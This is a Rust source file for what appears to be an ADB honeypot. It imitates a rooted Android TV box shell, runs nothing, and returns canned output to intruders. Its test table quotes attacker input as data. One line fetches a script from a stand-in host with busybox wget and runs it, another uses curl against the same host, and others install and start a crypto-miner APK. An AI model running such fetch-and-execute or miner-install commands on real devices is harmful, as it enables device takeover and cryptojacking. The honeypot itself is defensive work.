//! A box's shell that runs nothing: it answers what those ask who come to stay.

use super::Adb;
use alloc::{format, string::String, vec::Vec};

/// Commands of one line that are answered, and words of each that are looked at.
const COMMANDS_MAX: usize = 16;
const WORDS_MAX: usize = 64;
/// The longest output of one line, in bytes: what one message holds.
const OUTPUT_BYTES_MAX: usize = super::message::BODY_BYTES_MAX - 64;

const KERNEL: &str = "Linux localhost 3.14.29 #1 SMP PREEMPT Thu Jul 21 17:48:12 CST 2016 armv8l";
const CPU: &str = "Processor\t: AArch64 Processor rev 4 (aarch64)\nprocessor\t: 0\nprocessor\t: 1\nprocessor\t: 2\nprocessor\t: 3\n\
    Features\t: fp asimd crc32 wp half thumb fastmult vfp edsp neon vfpv3 tlsi vfpv4 idiva idivt\nCPU implementer\t: 0x41\n\
    CPU architecture: 8\nCPU variant\t: 0x0\nCPU part\t: 0xd03\nCPU revision\t: 4\n\nHardware\t: Amlogic\n";
const PROCESSES: &str = "USER     PID   PPID  VSIZE  RSS     WCHAN    PC        NAME\n\
    root      1     0     2832   620   ffffffff 00000000 S /init\n\
    root      1873  1     9868   424   ffffffff 00000000 S /sbin/adbd\n\
    system    2211  1907  1013508 92144 ffffffff 00000000 S system_server\n\
    u0_a12    2467  1907  937204 61620 ffffffff 00000000 S com.android.tv.launcher\n";
const PACKAGES: &str = "package:android\npackage:com.android.settings\npackage:com.android.tv.launcher\npackage:com.android.vending\n\
    package:org.xbmc.kodi\n";
/// What is there and prints nothing.
const SILENT: [&[u8]; 25] = [
    b"cd",
    b"chmod",
    b"chown",
    b"cp",
    b"dd",
    b"export",
    b"input",
    b"kill",
    b"killall",
    b"ln",
    b"mkdir",
    b"mount",
    b"mv",
    b"nohup",
    b"pkill",
    b"rm",
    b"rmdir",
    b"set",
    b"setprop",
    b"settings",
    b"sh",
    b"sleep",
    b"su",
    b"touch",
    b"wget",
];

/// What the shell prints, with LF; `None` after `exit`.
pub(super) fn run(line: &[u8], adb: &Adb) -> Option<Vec<u8>> {
    let mut output = Vec::new();
    let commands = line.split(|byte| matches!(byte, b';' | b'&' | b'|' | b'\n'));
    for command in commands.map(<[u8]>::trim_ascii).filter(|command| !command.is_empty()).take(COMMANDS_MAX) {
        let words: Vec<&[u8]> = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(WORDS_MAX).collect();
        if matches!(words.as_slice(), [b"exit", ..]) {
            return None;
        }
        // What goes to a file is not printed.
        if !command.contains(&b'>') {
            print(command, &words, adb, &mut output);
        }
    }
    output.truncate(OUTPUT_BYTES_MAX);
    Some(output)
}

fn print(command: &[u8], words: &[&[u8]], adb: &Adb, output: &mut Vec<u8>) {
    let mut say = |text: &str| output.extend_from_slice(text.as_bytes());
    match words {
        [b"busybox" | b"/system/bin/sh" | b"sh", b"-c", ..] => {}
        [b"busybox" | b"/system/xbin/busybox", rest @ ..] if !rest.is_empty() => {
            let at = words_begin(command);
            print(command.get(at..).unwrap_or_default(), rest, adb, output);
        }
        [b"echo", ..] => {
            let text = command.get(4..).unwrap_or_default().trim_ascii();
            output.extend(text.iter().filter(|byte| !matches!(byte, b'"' | b'\'')));
            output.push(b'\n');
        }
        [b"getprop"] => adb.properties().iter().for_each(|(name, value)| say(&format!("[{name}]: [{value}]\n"))),
        [b"getprop", name, ..] => {
            let value = adb.properties().into_iter().find(|(known, _)| known.as_bytes() == *name).map_or("", |(_, value)| value);
            say(value);
            say("\n");
        }
        [b"uname", b"-m"] => say("armv8l\n"),
        [b"uname", ..] => say(&format!("{KERNEL}\n")),
        [b"id"] => say("uid=0(root) gid=0(root)\n"),
        [b"pwd"] => say("/\n"),
        [b"cat", b"/proc/cpuinfo"] => say(CPU),
        [b"cat", b"/proc/version"] => {
            say("Linux version 3.14.29 (builder@droid) (gcc version 4.9) #1 SMP PREEMPT Thu Jul 21 17:48:12 CST 2016\n");
        }
        [b"cat" | b"ls", path, ..] if command.starts_with(b"cat") || !super::sync::is_folder(path) => {
            say(&format!("{}: No such file or directory\n", shown(path)));
        }
        [b"ls"] => say("cache\ndata\ndev\nproc\nsbin\nsdcard\nstorage\nsys\nsystem\n"),
        [b"ls", ..] => {}
        [b"ps", ..] => say(PROCESSES),
        [b"pm", b"list", b"packages", ..] => say(PACKAGES),
        [b"pm", b"install", .., package] => {
            say(&format!("\tpkg: {}\nSuccess\n", shown(package).trim_matches(['"', '\''])));
        }
        [b"pm", b"path", ..] => {}
        [b"pm", b"uninstall", ..] => say("Success\n"),
        [b"am", b"start", .., activity] => say(&format!("Starting: Intent {{ cmp={} }}\n", shown(activity))),
        [word, ..] if SILENT.contains(word) || word.starts_with(b"/data/local/tmp/") || word.starts_with(b"./") => {}
        [word, ..] => say(&format!("/system/bin/sh: {}: not found\n", shown(word))),
        [] => {}
    }
}

/// Where the second word begins.
fn words_begin(command: &[u8]) -> usize {
    let first = command.iter().position(u8::is_ascii_whitespace).unwrap_or(command.len());
    let behind = command.get(first..).unwrap_or_default();
    first + behind.len() - behind.trim_ascii_start().len()
}

/// A word as it is repeated.
fn shown(word: &[u8]) -> String {
    crate::safe_text(word, 200)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Persona, drive::said};

    #[test]
    fn the_shell_answers_what_miners_ask() {
        let adb = Adb::of(&Persona::of([7; 32]));
        let table: [(&str, &str); 14] = [
            ("getprop ro.product.model", "MXQ Pro 4K\n"),
            ("getprop no.such", "\n"),
            ("cd /data/local/tmp; busybox wget http://198.51.100.9/a.sh; sh a.sh", ""),
            ("id && echo \"a  b\"", "uid=0(root) gid=0(root)\na  b\n"),
            ("echo hello > /data/local/tmp/x", ""),
            ("busybox echo  x y", "x y\n"),
            ("pm install \"/data/local/tmp/ufo.apk\"", "\tpkg: /data/local/tmp/ufo.apk\nSuccess\n"),
            ("pm path com.ufo.miner", ""),
            (
                "am start -n com.ufo.miner/com.example.test.MainActivity",
                "Starting: Intent { cmp=com.ufo.miner/com.example.test.MainActivity }\n",
            ),
            ("curl -O http://198.51.100.9/a", "/system/bin/sh: curl: not found\n"),
            ("cat /data/local/tmp/x", "/data/local/tmp/x: No such file or directory\n"),
            ("ls /data/local/tmp", ""),
            ("ls /nope", "/nope: No such file or directory\n"),
            ("", ""),
        ];
        for (line, output) in table {
            assert_eq!(said(&run(line.as_bytes(), &adb).unwrap()), output, "{line}");
        }
        assert_eq!(run(b"id; exit", &adb), None);
        assert!(run(&b"cat /proc/cpuinfo;".repeat(99), &adb).unwrap().len() <= OUTPUT_BYTES_MAX);
    }
}
